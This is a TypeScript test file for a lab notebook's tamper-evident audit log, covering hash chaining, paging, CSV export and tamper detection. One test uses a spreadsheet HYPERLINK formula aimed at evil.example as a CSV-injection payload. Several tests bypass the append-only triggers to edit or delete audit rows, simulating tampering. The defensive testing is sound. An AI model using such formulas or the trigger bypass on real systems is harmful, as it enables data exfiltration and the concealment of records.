import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { asc, count, desc, eq, sql } from 'drizzle-orm';
import Papa from 'papaparse';
import {
  api,
  AUDIT_HEAD_HEADER,
  AUDIT_HEAD_LINE_PREFIX,
  AUDIT_VERIFY,
  ERR,
  type AuditRecord,
  type CallRequest,
  type ValidationErrorData,
} from '@eln/shared';
import { readFile, rm, writeFile } from 'node:fs/promises';
import { auditLog } from '../db/schema.js';
import { startTestServer, type TestServer } from '../testing/harness.js';
import {
  appendAudit,
  appendAuditBatch,
  auditChainHead,
  GENESIS_HASH,
  insertChecked,
  verifyAuditChain,
  type AuditChainVerdict,
} from './audit.js';
import { AUDIT_HEAD_LOG_MESSAGE, logAuditHead, startAuditHeadLog } from './anchor.js';
import { auditCsv } from './presenters.js';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(async () => {
  await server?.stop();
});

const append = (n: number) =>
  server.database.db.transaction((tx) =>
    appendAudit(tx, {
      actor: { userNo: 1, userId: 'admin@eln.local' },
      action: 'user.created',
      target: { type: 'user', id: `u${n}@lab.test` },
      before: null,
      after: { name: `User ${n}`, nested: { z: 1, a: [1, 'two', { y: true }] }, at: new Date('2026-01-02T03:04:05.678Z') },
      reason: n % 2 ? 'odd' : null,
      clientAddress: '127.0.0.1',
    }),
  );

const auditRows = async () => Number((await server.database.db.select({ n: count() }).from(auditLog))[0]?.n);
const intact = (checked: number): AuditChainVerdict => ({ ok: true, checked, firstBroken: null, broken: [], brokenCount: 0 });

/** Changes rows behind the append-only triggers, as a superuser with database access could. */
async function tamper(statement: ReturnType<typeof sql>): Promise<void> {
  await server.database.db.transaction(async (tx) => {
    await tx.execute(sql`set local session_replication_role = replica`);
    await tx.execute(statement);
  });
}

describe('the audit trail', () => {
  it('chains every record to the one before it, from the genesis hash', async () => {
    await append(1);
    await append(2);
    const rows = await server.database.db.select().from(auditLog).orderBy(asc(auditLog.seq));
    expect(rows[0]?.prevHash).toBe(GENESIS_HASH);
    for (let i = 1; i < rows.length; i += 1) expect(rows[i]?.prevHash).toBe(rows[i - 1]?.hash);
    expect(await verifyAuditChain(server.database.db)).toEqual(intact(rows.length));
  });

  it('stays one unbroken chain when many changes append at once', async () => {
    await Promise.all(Array.from({ length: 25 }, (_, i) => append(100 + i)));
    const result = await verifyAuditChain(server.database.db, 7);
    expect(result.ok).toBe(true);
    const rows = await server.database.db.select({ seq: auditLog.seq }).from(auditLog);
    expect(new Set(rows.map((r) => r.seq)).size).toBe(rows.length);
  });

  it('rolls back with the change it belongs to', async () => {
    const before = await auditRows();
    await expect(
      server.database.db.transaction(async (tx) => {
        await appendAudit(tx, { actor: null, action: 'user.created', target: { type: 'user', id: 'never@lab.test' } });
        throw new Error('the change failed');
      }),
    ).rejects.toThrow('the change failed');
    expect(await auditRows()).toBe(before);
    expect((await verifyAuditChain(server.database.db)).ok).toBe(true);
  });

  it('hashes what the database stores: odd Unicode from server code keeps the chain intact', async () => {
    const odd = {
      astral: '😀 𝄞 𠀋',
      combining: 'e\u0301 n\u0303 \u1100\u1161\u11A8',
      replacement: 'already \uFFFD',
      loneHigh: 'a\uD800b',
      loneLow: '\uDC00z',
      nul: 'x\u0000y',
    };
    const seq = await server.database.db.transaction((tx) =>
      appendAudit(tx, {
        actor: { userNo: null, userId: `a\uD800b@x.yz` },
        action: 'user.signInFailed',
        target: { type: 'user', id: 'tar\uDFFFget\u0000' },
        before: { ...odd, ['key\uD83D']: 'lone high surrogate in a key', list: Object.values(odd) },
        after: odd,
        reason: Object.values(odd).join(' | '),
        clientAddress: '::1\u0000',
      }),
    );
    const [stored] = await server.database.db.select().from(auditLog).where(eq(auditLog.seq, seq));
    // What PostgreSQL keeps: U+FFFD where the text was not valid Unicode or was NUL; the rest unchanged.
    expect(stored?.actorUserId).toBe('a\uFFFDb@x.yz');
    expect(stored?.targetId).toBe('tar\uFFFDget\uFFFD');
    expect(stored?.after).toEqual({ ...odd, loneHigh: 'a\uFFFDb', loneLow: '\uFFFDz', nul: 'x\uFFFDy' });
    expect(Object.keys(stored?.before as object)).toContain('key\uFFFD');
    expect(await verifyAuditChain(server.database.db)).toEqual(intact(await auditRows()));
    const admin = await server.as(server.admin);
    expect((await admin(api.audit.verify, {})).body.data).toMatchObject({ ok: true, brokenCount: 0 });
  });

  it('refuses to store a record whose stored form would not give the hash computed for it', async () => {
    const before = await auditRows();
    const head = await auditChainHead(server.database.db);
    // A record that skipped the normalisation: its lone surrogate would be stored as U+FFFD.
    const unnormalised = {
      seq: (head?.seq ?? 0) + 1000,
      rowNo: (head?.seq ?? 0) + 1000,
      actionRowNo: (head?.seq ?? 0) + 1000,
      at: new Date(),
      actorUserNo: null,
      actorUserId: null,
      action: 'user.signInFailed',
      targetType: 'user',
      targetId: 'a\uD800b@x.yz',
      before: null,
      after: null,
      reason: null,
      clientAddress: null,
      prevHash: head?.hash ?? GENESIS_HASH,
    };
    await expect(server.database.db.transaction((tx) => insertChecked(tx, unnormalised))).rejects.toThrow(/stored differently/);
    expect(await auditRows()).toBe(before);
    expect((await verifyAuditChain(server.database.db)).ok).toBe(true);
  });

  it('refuses a sign-in whose ID is not valid Unicode, records nothing, and the chain stays intact', async () => {
    const before = await auditRows();
    const refused = await server.call<ValidationErrorData>(api.auth.signIn.path, { userId: 'a\uD800b@x.yz', password: 'x' });
    expect(refused.http).toBe(400);
    expect(refused.body.status).toBe(ERR.validation);
    expect(refused.body.data.fields).toEqual([expect.objectContaining({ field: 'userId', reason: 'invalidCharacters' })]);
    expect(await auditRows()).toBe(before);
    expect((await verifyAuditChain(server.database.db)).ok).toBe(true);
  });

  it('logs the chain head (seq and hash) outside the database, at start and at an interval', async () => {
    const lines: Array<{ data: unknown; message: string }> = [];
    const log = { info: (data: unknown, message: string) => lines.push({ data, message }), error: () => undefined };
    await logAuditHead(server.database.db, log);
    const head = await auditChainHead(server.database.db);
    expect(lines).toEqual([{ data: { auditChainHead: head }, message: AUDIT_HEAD_LOG_MESSAGE }]);

    let resolveSecond: () => void = () => undefined;
    const secondLine = new Promise<void>((resolve) => (resolveSecond = resolve));
    const timed: unknown[] = [];
    const stop = startAuditHeadLog(
      server.database.db,
      { info: (data: unknown) => timed.push(data) === 2 && resolveSecond(), error: () => undefined },
      20,
    );
    await secondLine;
    stop();
    expect(timed[0]).toEqual({ auditChainHead: head });
  });

  it('exports CSV whose last line and header name the chain head, the export’s own record', async () => {
    const admin = await server.signIn(server.admin.userId, server.admin.password);
    const exported = await server.app.inject({
      method: 'POST',
      url: `/server${api.audit.exportCsv.path}`,
      payload: {},
      headers: { authorization: `Bearer ${admin.accessToken}` },
    });
    expect(exported.statusCode).toBe(200);
    const [own] = await server.database.db.select().from(auditLog).orderBy(desc(auditLog.seq)).limit(1);
    expect(own?.action).toBe('audit.exported');
    const lastLine = exported.body.trimEnd().split('\r\n').at(-1);
    expect(lastLine).toBe(`${AUDIT_HEAD_LINE_PREFIX} seq=${own?.seq} hash=${own?.hash}`);
    expect(exported.headers[AUDIT_HEAD_HEADER]).toBe(`${own?.seq} ${own?.hash}`);
    const rows = Papa.parse<Record<string, string>>(exported.body.replace(/^\uFEFF/, '').trim(), { header: true, comments: '#' }).data;
    expect(rows.length).toBe((own?.seq ?? 0) - 1 - (await skippedSeqs()));
  });

  it('exports a formula an attacker typed as text, never as a live formula', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")@x.yz';
    const failed = await server.call(api.auth.signIn, { userId: formula, password: 'wrong password' });
    expect(failed.body.status).toBe(ERR.badCredentials);
    const admin = await server.signIn(server.admin.userId, server.admin.password);
    const exported = await server.app.inject({
      method: 'POST',
      url: `/server${api.audit.exportCsv.path}`,
      payload: { action: 'user.signInFailed' },
      headers: { authorization: `Bearer ${admin.accessToken}` },
    });
    const rows = Papa.parse<Record<string, string>>(exported.body.replace(/^\uFEFF/, '').trim(), { header: true, comments: '#' }).data;
    const target = rows.map((row) => row.targetId).find((id) => id?.includes('hyperlink'));
    expect(target).toBe(`'${formula.toLowerCase()}`);
    expect(rows.every((row) => Object.values(row).every((cell) => !/^[=+\-@\t\r]/.test(cell)))).toBe(true);

    // Every formula start, also when a line break follows (papaparse's default pattern misses that).
    const record = (reason: string): AuditRecord => ({
      seq: 1,
      at: 'x',
      actorUserNo: null,
      actorUserId: '+1',
      actorName: '@a',
      action: '-b',
      targetType: '\tc',
      targetId: '\rd',
      before: null,
      after: null,
      reason,
      clientAddress: null,
      tokenId: null,
      prevHash: 'p',
      hash: 'h',
    });
    const csv = Papa.parse<string[]>(auditCsv([record('=1+1\nsecond line')])).data[1];
    expect(csv).toEqual(['1', 'x', "'+1", "'@a", "'-b", "'\tc", "'\rd", '', '', "'=1+1\nsecond line", '', '', 'p', 'h']);
  });
});

/** Sequence numbers taken but never committed (rolled-back appends), so not in the chain. */
async function skippedSeqs(): Promise<number> {
  const [row] = await server.database.db.select({ max: sql<number>`max(${auditLog.seq})`, n: count() }).from(auditLog);
  return Number(row?.max) - Number(row?.n);
}

describe('the audit list', () => {
  it('finds failed and refused sign-ins by the typed ID in the actor filter, and no one else’s records by it', async () => {
    const typed = `someone.${Date.now()}@lab.test`;
    await server.call(api.auth.signIn, { userId: typed, password: 'not-the-password-1' });
    const member = await server.createUser();
    await server.call(api.auth.signIn, { userId: member.userId, password: 'wrong-password-123' });
    const admin = await server.as(server.admin);
    const byTyped = await admin(api.audit.list, { actor: typed, pageSize: 100 });
    expect(byTyped.body.data.list.map((r) => [r.action, r.targetId, r.actorUserId])).toEqual([['user.signInFailed', typed, null]]);
    const byMember = await admin(api.audit.list, { actor: member.userId, pageSize: 100 });
    expect(byMember.body.data.list.map((r) => r.action)).toEqual(['user.signInFailed']);
    // A record about a user done by someone else is not theirs: the typed-ID match is for sign-in attempts only.
    expect((await admin(api.users.update, { userNo: member.userNo, name: 'Renamed Member' })).body.status).toBe('0000');
    const again = await admin(api.audit.list, { actor: member.userId, pageSize: 100 });
    expect(again.body.data.list.map((r) => r.action)).toEqual(['user.signInFailed']);
  });
});

describe('the audit list filtered by an action', () => {
  const seqsOf = async (action: string) =>
    (
      await server.database.db.select({ seq: auditLog.seq }).from(auditLog).where(eq(auditLog.action, action)).orderBy(desc(auditLog.seq))
    ).map((r) => r.seq);

  it('pages an action’s records by their place among them: no gap after a rolled-back append, a batch numbered in order', async () => {
    await append(100);
    await server.database.db
      .transaction(async (tx) => {
        await appendAudit(tx, { actor: null, action: 'user.updated', target: { type: 'user', id: 'rolled.back@lab.test' } });
        throw new Error('roll back');
      })
      .catch(() => undefined);
    await server.database.db.transaction((tx) =>
      appendAuditBatch(
        tx,
        Array.from({ length: 7 }, (_, n) => ({
          actor: null,
          action: n % 3 ? ('user.updated' as const) : ('user.created' as const),
          target: { type: 'user', id: `batch${n}@lab.test` },
        })),
      ),
    );
    for (let n = 0; n < 3; n += 1) {
      await server.database.db.transaction((tx) =>
        appendAudit(tx, { actor: null, action: 'user.updated', target: { type: 'user', id: `one${n}@lab.test` } }),
      );
      await append(200 + n);
    }
    // Each action's records are numbered 1, 2, 3... in chain order, whatever the other actions did.
    for (const action of ['user.created', 'user.updated']) {
      const numbered = await server.database.db
        .select({ actionRowNo: auditLog.actionRowNo })
        .from(auditLog)
        .where(eq(auditLog.action, action))
        .orderBy(asc(auditLog.seq));
      expect(numbered.map((r) => r.actionRowNo)).toEqual(numbered.map((_, index) => index + 1));
    }

    const admin = await server.as(server.admin);
    const expected = await seqsOf('user.updated');
    expect(expected.length).toBeGreaterThanOrEqual(7);
    const pageSize = 3;
    const pages = Math.ceil(expected.length / pageSize);
    const listed: number[] = [];
    for (let page = 1; page <= pages; page += 1) {
      const answer = await admin(api.audit.list, { action: 'user.updated', page, pageSize });
      expect(answer.body.data.totalCount).toBe(expected.length);
      expect(
        answer.body.data.list.every((record) => record.action === 'user.updated' && !('actionRowNo' in record) && !('rowNo' in record)),
      ).toBe(true);
      listed.push(...answer.body.data.list.map((record) => record.seq));
    }
    expect(listed).toEqual(expected);
    const beyond = await admin(api.audit.list, { action: 'user.updated', page: pages + 1, pageSize });
    expect(beyond.body.data).toEqual({ list: [], totalCount: expected.length });
    // The same action with another filter is counted and read the general way: the same records.
    const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
    const general = await admin(api.audit.list, { action: 'user.updated', startDate: day(-1), endDate: day(1), page: 1, pageSize });
    const first = await admin(api.audit.list, { action: 'user.updated', page: 1, pageSize });
    expect(general.body.data).toEqual(first.body.data);
    // An action nothing recorded yet.
    const none = await admin(api.audit.list, { action: 'template.deleted', page: 1, pageSize });
    expect(none.body.data).toEqual({ list: [], totalCount: 0 });
  });
});

describe('the unfiltered audit list', () => {
  const allBySeq = async () =>
    (await server.database.db.select({ seq: auditLog.seq }).from(auditLog).orderBy(desc(auditLog.seq))).map((r) => r.seq);

  it('pages the whole trail by row number: a gap in seq (a rolled-back append) shifts nothing', async () => {
    await append(1);
    await server.database.db
      .transaction(async (tx) => {
        await appendAudit(tx, { actor: null, action: 'user.created', target: { type: 'user', id: 'rolled.back@lab.test' } });
        throw new Error('roll back');
      })
      .catch(() => undefined);
    for (let n = 0; n < 6; n += 1) await append(n);
    const admin = await server.as(server.admin);
    const expected = await allBySeq();
    // The rolled-back append took a sequence number: seq has a gap, the row numbers do not.
    expect(expected[0]! - expected.at(-1)! + 1).toBeGreaterThan(expected.length);
    const rowNumbers = await server.database.db
      .select({ seq: auditLog.seq, rowNo: auditLog.rowNo })
      .from(auditLog)
      .orderBy(asc(auditLog.seq));
    expect(rowNumbers.map((r) => r.rowNo)).toEqual(rowNumbers.map((_, index) => index + 1));

    const pageSize = 4;
    const pages = Math.ceil(expected.length / pageSize);
    const listed: number[] = [];
    for (let page = 1; page <= pages; page += 1) {
      const answer = await admin(api.audit.list, { page, pageSize });
      expect(answer.body.data.totalCount).toBe(expected.length);
      expect(answer.body.data.list.length).toBe(page < pages ? pageSize : expected.length - (pages - 1) * pageSize);
      expect(answer.body.data.list.every((record) => !('rowNo' in record))).toBe(true);
      listed.push(...answer.body.data.list.map((record) => record.seq));
    }
    expect(listed).toEqual(expected);
    const beyond = await admin(api.audit.list, { page: pages + 1, pageSize });
    expect(beyond.body.data).toEqual({ list: [], totalCount: expected.length });
  });

  it('pages a date range newest first, in the order of the whole trail', async () => {
    const admin = await server.as(server.admin);
    const expected = await allBySeq();
    const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
    const listed: number[] = [];
    for (let page = 1; listed.length < expected.length; page += 1) {
      const answer = await admin(api.audit.list, { startDate: day(-1), endDate: day(1), page, pageSize: 3 });
      expect(answer.body.data.totalCount).toBe(expected.length);
      expect(answer.body.data.list.length).toBeGreaterThan(0);
      listed.push(...answer.body.data.list.map((record) => record.seq));
    }
    expect(listed).toEqual(expected);
    // Past the range's last page: nothing listed, the count still right.
    const past = await admin(api.audit.list, { startDate: day(-1), endDate: day(1), page: 1000, pageSize: 3 });
    expect(past.body.data).toEqual({ list: [], totalCount: expected.length });
    const none = await admin(api.audit.list, { startDate: day(-30), endDate: day(-20), page: 1, pageSize: 3 });
    expect(none.body.data).toEqual({ list: [], totalCount: 0 });
  });

  it('finds a user’s records by their name as well as by their ID', async () => {
    const member = await server.createUser({ name: `Marie Curie ${Date.now()}` });
    const own = await server.as(member);
    expect(
      (await own(api.projects.create, { title: `Radium ${Date.now() % 100000}`, signatureList: { department: '', user: member.userId } }))
        .body.status,
    ).toBe('0000');
    const admin = await server.as(server.admin);
    const byName = await admin(api.audit.list, { actor: member.name.slice(6), pageSize: 100 });
    const byId = await admin(api.audit.list, { actor: member.userId.toUpperCase(), pageSize: 100 });
    expect(byName.body.data.list.map((r) => r.action)).toContain('project.created');
    expect(byName.body.data.list.every((r) => r.actorUserId === member.userId)).toBe(true);
    expect(byName.body.data.totalCount).toBe(byName.body.data.list.length);
    expect(byId.body.data).toEqual(byName.body.data);
  });
});

describe('verify after tampering', () => {
  it('cannot be changed or removed: the database refuses UPDATE, DELETE and TRUNCATE', async () => {
    const db = server.database.db;
    for (const statement of [
      sql`update audit_log set reason = 'edited' where seq = 1`,
      sql`delete from audit_log where seq = 1`,
      sql`truncate audit_log`,
    ]) {
      const error = await db.execute(statement).then(
        () => null,
        (e: unknown) => e,
      );
      // Drizzle wraps the driver's error; the database's own refusal is its cause.
      expect(String((error as { cause?: Error } | null)?.cause?.message)).toMatch(/audit_log is append-only/);
    }
    expect((await verifyAuditChain(db)).ok).toBe(true);
  });

  it('reports every changed record, also one far after an earlier break, each once', async () => {
    const rows = await server.database.db.select().from(auditLog).orderBy(asc(auditLog.seq));
    const early = rows[3];
    const late = rows.at(-3);
    if (!early || !late || late.seq - early.seq < 10) throw new Error('not enough audit rows');
    await tamper(sql`update audit_log set after = '{"name":"Someone else"}'::jsonb where seq = ${early.seq}`);
    await tamper(sql`update audit_log set reason = 'rewritten later' where seq = ${late.seq}`);

    const answer = await verifyAuditChain(server.database.db, 5);
    expect(answer).toEqual({ ok: false, checked: rows.length, firstBroken: early.seq, broken: [early.seq, late.seq], brokenCount: 2 });
    const admin = await server.as(server.admin);
    // Signing in appended one more record, which is intact.
    expect((await admin(api.audit.verify, {})).body.data).toMatchObject({
      ok: false,
      checked: rows.length + 1,
      firstBroken: early.seq,
      broken: [early.seq, late.seq],
      brokenCount: 2,
    });
  });

  it('reports the record after one removed, and the record after one re-hashed to fit its change', async () => {
    const rows = await server.database.db.select().from(auditLog).orderBy(asc(auditLog.seq));
    const removed = rows[10];
    const rehashed = rows[15];
    const [afterRemoved, afterRehashed] = [rows[11], rows[16]];
    if (!removed || !rehashed || !afterRemoved || !afterRehashed) throw new Error('not enough audit rows');
    await tamper(sql`delete from audit_log where seq = ${removed.seq}`);
    // Changed and given a new hash of its own: the record checks out, the next one no longer names it.
    await tamper(sql`update audit_log set reason = 'rewritten', hash = ${'f'.repeat(64)} where seq = ${rehashed.seq}`);

    const answer = await verifyAuditChain(server.database.db);
    expect(answer.broken).toEqual(expect.arrayContaining([afterRemoved.seq, rehashed.seq, afterRehashed.seq]));
    expect(answer.broken).not.toContain(removed.seq);
    expect(answer.brokenCount).toBe(answer.broken.length);
    expect(answer.firstBroken).toBe(answer.broken[0]);
  });

  it('reports a record whose row numbers were changed, though they are outside the hash, and the record after it', async () => {
    const rows = await server.database.db.select().from(auditLog).orderBy(asc(auditLog.seq));
    const [renumbered, next] = [rows.at(-6), rows.at(-5)];
    const reordered = rows.at(-3);
    if (!renumbered || !next || !reordered) throw new Error('not enough audit rows');
    const sameAction = rows.find((row) => row.seq > reordered.seq && row.action === reordered.action);
    const before = new Set((await verifyAuditChain(server.database.db)).broken);
    // The list pages by these numbers: moved, a record shows on another page or on none.
    await tamper(sql`update audit_log set row_no = row_no + 100000 where seq = ${renumbered.seq}`);
    await tamper(sql`update audit_log set action_row_no = action_row_no + 100000 where seq = ${reordered.seq}`);

    const found = (await verifyAuditChain(server.database.db)).broken.filter((seq) => !before.has(seq));
    expect(found).toEqual([renumbered.seq, next.seq, reordered.seq, ...(sameAction ? [sameAction.seq] : [])].sort((a, b) => a - b));
  });

  it('lists at most the shared cap of broken records, and counts them all', async () => {
    const cap = AUDIT_VERIFY.maxBrokenListed;
    await Promise.all(Array.from({ length: cap + 5 }, (_, i) => append(1000 + i)));
    await tamper(sql`update audit_log set reason = 'all of them' where action = 'user.created'`);
    const answer = await verifyAuditChain(server.database.db);
    expect(answer.broken.length).toBe(cap);
    expect(answer.brokenCount).toBeGreaterThan(cap);
    expect(answer.ok).toBe(false);
  });
});

describe('the heads kept outside the database', () => {
  let own: TestServer;
  let adminToken: string;
  beforeAll(async () => {
    own = await startTestServer();
    adminToken = (await own.signIn(own.admin.userId, own.admin.password)).accessToken;
  });
  afterAll(async () => {
    await own?.stop();
  });

  const appendTo = (target: TestServer, n: number) =>
    target.database.db.transaction((tx) =>
      appendAudit(tx, { actor: null, action: 'user.updated', target: { type: 'user', id: `anchor${n}@lab.test` } }),
    );
  const anchorFile = async () => JSON.parse(await readFile(own.services.auditAnchor.file, 'utf8')) as { seq: number; hash: string };
  const verify = (body: CallRequest<typeof api.audit.verify> = {}) => own.callerWith(adminToken)(api.audit.verify, body);
  const tamperOwn = (statement: ReturnType<typeof sql>) =>
    own.database.db.transaction(async (tx) => {
      await tx.execute(sql`set local session_replication_role = replica`);
      await tx.execute(statement);
    });

  it('writes the committed head to the anchor file in DATA_DIR as records are appended, never a rolled-back one', async () => {
    expect(own.services.auditAnchor.file).toBe(`${own.config.dataDir}/audit-chain-head.json`);
    for (let n = 0; n < 3; n += 1) await appendTo(own, n);
    await own.services.auditAnchor.settled();
    const head = await auditChainHead(own.database.db);
    expect(await anchorFile()).toMatchObject(head ?? {});
    await own.database.db
      .transaction(async (tx) => {
        await appendAudit(tx, { actor: null, action: 'user.updated', target: { type: 'user', id: 'rolled.back@lab.test' } });
        throw new Error('roll back');
      })
      .catch(() => undefined);
    await own.services.auditAnchor.settled();
    expect(await anchorFile()).toMatchObject(head ?? {});
    const answer = (await verify()).body.data;
    expect(answer).toMatchObject({ ok: true, serverAnchor: 'compared', head });
    expect(answer.anchors).toEqual([{ source: 'server', ...head, writtenAt: expect.any(String), result: 'matches' }]);
  });

  it('compares the head an export names, and says when the chain no longer holds it', async () => {
    const exported = await own.app.inject({
      method: 'POST',
      url: `/server${api.audit.exportCsv.path}`,
      payload: {},
      headers: { authorization: `Bearer ${adminToken}` },
    });
    const [seq, hash] = String(exported.headers[AUDIT_HEAD_HEADER]).split(' ');
    const exportHead = { seq: Number(seq), hash: hash ?? '' };
    await own.services.auditAnchor.settled();
    const matching = (await verify({ exportHead })).body.data;
    expect(matching.ok).toBe(true);
    expect(matching.anchors.map((a) => [a.source, a.seq, a.result])).toEqual([
      ['server', exportHead.seq, 'matches'],
      ['export', exportHead.seq, 'matches'],
    ]);
    const otherHash = { ...exportHead, hash: 'a'.repeat(64) };
    const differing = (await verify({ exportHead: otherHash })).body.data;
    expect(differing.ok).toBe(false);
    expect(differing.brokenCount).toBe(0);
    expect(differing.anchors.find((a) => a.source === 'export')).toMatchObject({ ...otherHash, writtenAt: null, result: 'differs' });
    const later = (await verify({ exportHead: { seq: exportHead.seq + 50, hash: exportHead.hash } })).body.data;
    expect(later.anchors.find((a) => a.source === 'export')?.result).toBe('beyondEnd');
    const refused = await own.call<ValidationErrorData>(
      api.audit.verify.path,
      { exportHead: { seq: 1, hash: 'not a hash' } },
      { token: adminToken },
    );
    expect(refused.body.status).toBe(ERR.validation);
    expect(refused.body.data.fields.map((f) => f.field)).toEqual(['exportHead.hash']);
  });

  it('finds the three newest records removed behind the triggers, which the chain alone cannot show', async () => {
    for (let n = 10; n < 15; n += 1) await appendTo(own, n);
    await own.services.auditAnchor.settled();
    const anchored = await auditChainHead(own.database.db);
    const newest = await own.database.db.select({ seq: auditLog.seq }).from(auditLog).orderBy(desc(auditLog.seq)).limit(3);
    await tamperOwn(
      sql`delete from audit_log where seq in (${sql.join(
        newest.map((r) => sql`${r.seq}`),
        sql`, `,
      )})`,
    );

    // What is left is a whole chain: nothing in it is broken.
    expect((await verifyAuditChain(own.database.db)).ok).toBe(true);
    const cut = (await verify()).body.data;
    expect(cut).toMatchObject({ ok: false, brokenCount: 0, serverAnchor: 'compared', head: { seq: newest[2]!.seq - 1 } });
    expect(cut.anchors).toEqual([{ source: 'server', ...anchored, writtenAt: expect.any(String), result: 'beyondEnd' }]);

    // Appends go on from the cut chain; the anchor file keeps the head the chain lost, so verify still says so.
    await appendTo(own, 20);
    await own.services.auditAnchor.settled();
    expect(await anchorFile()).toMatchObject(anchored ?? {});
    const after = (await verify()).body.data;
    expect(after.ok).toBe(false);
    expect(after.anchors[0]?.result).toBe('missing');
  });

  it('is not ok when the anchor file is damaged, and says there is nothing to compare when there is none', async () => {
    await writeFile(own.services.auditAnchor.file, 'not a head');
    expect((await verify()).body.data).toMatchObject({ ok: false, serverAnchor: 'unreadable', anchors: [] });
    const fresh = await startTestServer({ database: own.database });
    try {
      await fresh.services.auditAnchor.settled();
      await rm(fresh.services.auditAnchor.file, { force: true });
      const none = (await fresh.callerWith(adminToken)(api.audit.verify, {})).body.data;
      expect(none).toMatchObject({ serverAnchor: 'none', anchors: [] });
    } finally {
      await fresh.stop();
    }
  });
});
